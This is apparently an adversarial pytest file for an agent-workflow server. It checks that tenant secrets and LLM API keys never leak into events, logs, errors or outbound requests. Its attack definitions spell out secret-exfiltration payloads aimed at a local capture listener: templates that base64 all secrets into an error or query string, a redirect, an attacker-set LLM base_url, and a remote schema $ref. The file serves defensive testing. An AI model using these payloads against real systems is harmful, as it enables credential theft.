"""Issue 11, secrets: http templates read `.secrets` as data (base64 of every secret in a
run's error, one sent to any host in a query string); an agent's free `config.base_url`
carried the deployment's LLM key to a listener of the attacker's; jsonschema fetched
remote `$ref`s of tool schemas outside the SSRF guard.

One live server per backend (embedded, Kafka + PostgreSQL) whose operator bound each
secret (AOB_HTTP_SECRETS, AOB_LLM_ENDPOINTS).
The attacker tries every way above; the victim uses its secrets legitimately. Then no
secret value appears, raw or encoded (base64 at every alignment, hex, reversed, either
half, percent-encoded), in any event, run, error, server log line or request the
listener received, except in the header it is bound to, toward its bound host."""

from __future__ import annotations

import base64
import json
import secrets
import string
import urllib.parse
from collections.abc import Iterator
from typing import Any

import pytest

from tests.adversarial.capture import Answer, CaptureServer
from tests.adversarial.conftest import (
    ATTACKER,
    VICTIM,
    HealthProbe,
    LiveServer,
    failure_text,
    run_events,
    server_for,
    submit,
    wait_run,
)

pytestmark = pytest.mark.slow


def _secret(prefix: str) -> str:
    return prefix + "".join(secrets.choice(string.ascii_letters + string.digits) for _ in range(40))


VICTIM_API_KEY = _secret("vk")  # bound to the victim tenant, header X-Api-Key
SHARED_TOKEN = _secret("st")  # every tenant may use it, Authorization toward one host
LLM_KEY = _secret("sk")  # the deployment's default LLM endpoint key
LOCAL_LLM_KEY = _secret("lk")  # a named endpoint for the victim tenant only
LITERAL = _secret("lit")  # a token an operator wrote into a definition


def encoded_forms(secret: str) -> dict[str, str]:
    """Forms of `secret` an exfiltration would take; each long enough to be unique."""
    raw = secret.encode()
    half = len(secret) // 2
    forms = {
        "raw": secret,
        "reversed": secret[::-1],
        "first half": secret[:half],
        "second half": secret[half:],
        "hex": raw.hex(),
        "HEX": raw.hex().upper(),
        "percent": urllib.parse.quote(secret, safe=""),
    }
    for shift in range(3):  # the secret at any byte offset inside a larger encoded text
        for name, encode in (("base64", base64.b64encode), ("base64url", base64.urlsafe_b64encode)):
            text = encode(b"\0" * shift + raw).decode()
            # Drop the characters that depend on bytes before or after the secret.
            start = -(-shift * 8 // 6)
            forms[f"{name}@{shift}"] = text.rstrip("=")[start:-3]
    return forms


@pytest.fixture(scope="module", params=["embedded", "cluster"])
def secrets_server(
    request: pytest.FixtureRequest,
    tmp_path_factory: pytest.TempPathFactory,
    capture: CaptureServer,
) -> Iterator[LiveServer]:
    port = capture.url.rsplit(":", 1)[1]
    bound_host = f"127.0.0.1:{port}"
    data_dir = tmp_path_factory.mktemp(f"secrets-{request.param}") / "data"
    settings = {
        "AOB_LLM_BASE_URL": capture.llm_url,
        "AOB_LLM_API_KEY": LLM_KEY,
        "AOB_LLM_ENDPOINTS": json.dumps(
            {
                "local": {
                    "base_url": f"{capture.url}/local/v1",
                    "api_key": LOCAL_LLM_KEY,
                    "tenants": [VICTIM],
                }
            }
        ),
        "AOB_HTTP_ALLOW": "127.0.0.1,localhost",
        "AOB_HTTP_PORTS": port,
        "AOB_HTTP_SECRETS": json.dumps(
            {
                "victim_api": {
                    "value": VICTIM_API_KEY,
                    "header": "X-Api-Key",
                    "hosts": [bound_host],
                    "tenants": [VICTIM],
                },
                "shared": {
                    "value": SHARED_TOKEN,
                    "header": "Authorization",
                    "format": "Bearer {value}",
                    "hosts": [bound_host],
                    "tenants": ["*"],
                },
            }
        ),
    }
    with server_for(request.param, request, data_dir, **settings) as server:
        yield server


def http(config: dict[str, Any], name: str = "steal") -> dict[str, Any]:
    return {"name": name, "nodes": [{"id": "call", "type": "http", "config": config}]}


def agent(config: dict[str, Any]) -> dict[str, Any]:
    return {"name": "steal-llm", "nodes": [{"id": "llm", "type": "agent", "config": config}]}


def attacks(capture: CaptureServer) -> dict[str, dict[str, Any]]:
    port = capture.url.rsplit(":", 1)[1]
    other = f"http://localhost:{port}"  # the same listener, not the bound host
    return {
        "every secret as base64 into the error": http(
            {"url": f"{capture.url}/a", "expect_status": ["{{ .secrets | tojson | @base64 }}"]}
        ),
        "one secret in a query string": http(
            {"url": f"{capture.url}/b?k={{{{ .secrets.shared | @base64 }}}}"}
        ),
        "another tenant's secret": http({"url": f"{capture.url}/c", "secrets": ["victim_api"]}),
        "a secret toward an unbound host": http({"url": f"{other}/d", "secrets": ["shared"]}),
        "a secret across a redirect": http(
            {"url": f"{capture.url}/redirect", "secrets": ["shared"]}
        ),
        "secrets in an agent prompt": agent({"prompt": "{{ .secrets | tojson }}"}),
        "a free LLM base_url": agent({"prompt": "hello", "base_url": f"{other}/evil/v1"}),
        "another tenant's LLM endpoint": agent({"prompt": "hello", "endpoint": "local"}),
    }


def test_no_secret_leaks_whatever_the_attacker_writes(
    secrets_server: LiveServer, capture: CaptureServer
) -> None:
    server = secrets_server
    port = capture.url.rsplit(":", 1)[1]
    capture.respond(
        "/redirect", Answer(status=302, headers=(("location", f"http://localhost:{port}/stolen"),))
    )
    runs: dict[str, dict[str, Any]] = {}
    with (
        server.diagnosed(),
        HealthProbe(server.url, server.pid) as probe,
        server.client(ATTACKER) as attacker,
        server.client(VICTIM) as victim,
    ):
        ids = {what: submit(attacker, definition) for what, definition in attacks(capture).items()}
        legit = submit(
            victim, http({"url": f"{capture.url}/legit", "secrets": ["victim_api"]}, "legit")
        )
        legit_llm = submit(victim, agent({"prompt": "summarise"}))
        for what, run_id in ids.items():
            runs[what] = wait_run(attacker, run_id, 30, probe=probe)
        runs["legit"] = wait_run(victim, legit, 30, probe=probe)
        runs["legit llm"] = wait_run(victim, legit_llm, 30, probe=probe)
        timelines = {
            what: run_events(attacker if what in ids else victim, run["run_id"])
            for what, run in runs.items()
        }
    probe.check()

    # The victim's legitimate uses worked, with the secret in its bound header.
    assert runs["legit"]["status"] == "completed", failure_text(runs["legit"])
    legit_seen = capture.seen("/legit")
    assert legit_seen, "the victim's request never arrived"
    assert ("x-api-key", VICTIM_API_KEY) in legit_seen[-1].headers
    # The ways that only work by reading a secret as data, or by borrowing a secret or an
    # endpoint one's tenant may not use, fail, each with a reason. (An agent prompt's
    # context has no secrets at all: `.secrets` is null there, which the scan covers.)
    for what in (
        "every secret as base64 into the error",
        "one secret in a query string",
        "another tenant's secret",
        "a free LLM base_url",
        "another tenant's LLM endpoint",
    ):
        assert runs[what]["status"] == "failed", (what, runs[what]["status"])
        assert failure_text(runs[what]).strip(), what
    assert not capture.seen("/evil"), "the free base_url was contacted"

    haystacks = {f"events of {what}": json.dumps(events) for what, events in timelines.items()}
    haystacks |= {f"run {what}": json.dumps(run) for what, run in runs.items()}
    haystacks["server logs"] = server.logs()
    bound = {
        VICTIM_API_KEY: "x-api-key",
        SHARED_TOKEN: "authorization",
        LLM_KEY: "authorization",
        LOCAL_LLM_KEY: "authorization",
    }
    for secret in (VICTIM_API_KEY, SHARED_TOKEN, LLM_KEY, LOCAL_LLM_KEY):
        texts = dict(haystacks)
        for n, request in enumerate(capture.requests):
            allowed_here = _bound_destination(secret, request.path, request.headers, port)
            header = bound[secret] if allowed_here else None
            texts[f"request {n} {request.method} {request.path}"] = request.text(
                without_header=header
            )
        _assert_absent(secret, texts)


def _bound_destination(secret: str, path: str, headers: list[tuple[str, str]], port: str) -> bool:
    """Whether a request went where `secret` is bound (its header may carry it there)."""
    host = {k.lower(): v for k, v in headers}.get("host", "")
    if host != f"127.0.0.1:{port}":
        return False
    if secret == LLM_KEY:
        return path.startswith("/v1/")
    if secret == LOCAL_LLM_KEY:
        return path.startswith("/local/v1/")
    return not path.startswith(("/v1/", "/local/"))


def _assert_absent(secret: str, texts: dict[str, str]) -> None:
    for form, needle in encoded_forms(secret).items():
        for where, text in texts.items():
            assert needle not in text, f"a secret ({form}) appears in {where}"


def test_a_literal_authorization_header_is_not_shown_in_clear(
    secrets_server: LiveServer, capture: CaptureServer
) -> None:
    """An operator wrote a token into a definition: refused, or kept out of what the
    API shows (the run, its events)."""
    definition = http(
        {"url": f"{capture.url}/literal", "headers": {"Authorization": f"Bearer {LITERAL}"}},
        "literal",
    )
    with secrets_server.client(ATTACKER) as attacker:
        response = attacker.post("/api/v1/runs", json={"definition": definition})
        if response.status_code == 202:
            run_id = response.json()["run_id"]
            shown = json.dumps(wait_run(attacker, run_id, 30)) + json.dumps(
                run_events(attacker, run_id)
            )
        else:
            assert response.status_code in (400, 422), response.text
            shown = response.text
    _assert_absent(LITERAL, {"what the API shows": shown})


def test_tool_schemas_never_reach_the_network(
    secrets_server: LiveServer, capture: CaptureServer
) -> None:
    """A registered tool's parameters `$ref` a slow URL: validating an agent's call to it
    contacts nobody and stalls nobody."""
    capture.respond("/schema.json", Answer(body=b'{"type": "object"}', delay_s=10))
    tool = {
        "name": "remote-ref",
        "steps": [{"op": "top_k", "k": 1}],
        "parameters": {"$ref": f"{capture.url}/schema.json"},
    }
    marker = f"tool-{secrets.token_hex(4)}"
    capture.converse(
        marker,
        {
            "tool_calls": [
                {
                    "name": "execute_pipeline",
                    "arguments": {"tool": "remote-ref", "input": [{"a": 1}]},
                }
            ]
        },
        {"content": "done"},
    )
    server = secrets_server
    with (
        server.diagnosed(),
        HealthProbe(server.url, server.pid) as probe,
        server.client(ATTACKER) as attacker,
    ):
        registered = attacker.post("/api/v1/tools", json=tool)
        assert registered.status_code in (201, 422), registered.text
        run_id = submit(attacker, agent({"prompt": f"{marker}: use the tool"}))
        run = wait_run(attacker, run_id, 30, probe=probe)
    probe.check()
    assert run["status"] in ("completed", "failed"), run
    assert not capture.seen("/schema.json"), "a schema $ref was fetched"
